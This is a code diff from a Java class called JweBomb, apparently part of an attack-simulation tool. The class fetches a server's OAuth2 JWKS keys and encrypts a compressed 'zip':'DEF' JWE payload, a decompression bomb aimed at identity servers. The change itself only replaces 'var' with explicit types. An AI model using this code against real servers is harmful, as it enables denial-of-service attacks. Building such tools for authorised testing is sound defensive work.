@@ -37,7 +37,7 @@ public final class JweBomb implements AttackKind {
 
     public JweBomb(URI identity) {
         this.identity = identity;
-        var keys = Http.ok(Http.send(HttpRequest.newBuilder(URI.create(identity + "/oauth2/jwks"))));
+        String keys = Http.ok(Http.send(HttpRequest.newBuilder(URI.create(identity + "/oauth2/jwks"))));
         this.jwe = KEY.matcher(keys)
                 .results()
                 .map(match -> match.group(1))
@@ -70,7 +70,7 @@ public final class JweBomb implements AttackKind {
 
     /** Encrypts the bomb as RFC 7516 says, with RSA-OAEP-256 and A256GCM. */
     private static String encrypted(String key) {
-        var header = encode("{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\",\"zip\":\"DEF\",\"kid\":\""
+        String header = encode("{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\",\"zip\":\"DEF\",\"kid\":\""
                 .concat(Http.member(key, "kid"))
                 .concat("\"}")
                 .getBytes(StandardCharsets.US_ASCII));
@@ -86,12 +86,12 @@ public final class JweBomb implements AttackKind {
                     KeyFactory.getInstance("RSA")
                             .generatePublic(new RSAPublicKeySpec(number(key, "n"), number(key, "e"))),
                     new OAEPParameterSpec("SHA-256", "MGF1", MGF1ParameterSpec.SHA256, PSource.PSpecified.DEFAULT));
-            var wrapped = rsa.doFinal(content);
+            byte[] wrapped = rsa.doFinal(content);
             var aes = Cipher.getInstance("AES/GCM/NoPadding");
             aes.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(content, "AES"), new GCMParameterSpec(128, nonce));
             aes.updateAAD(header.getBytes(StandardCharsets.US_ASCII));
-            var sealed = aes.doFinal(deflated());
-            var tag = sealed.length - 16;
+            byte[] sealed = aes.doFinal(deflated());
+            int tag = sealed.length - 16;
             return String.join(
                     ".",
                     header,
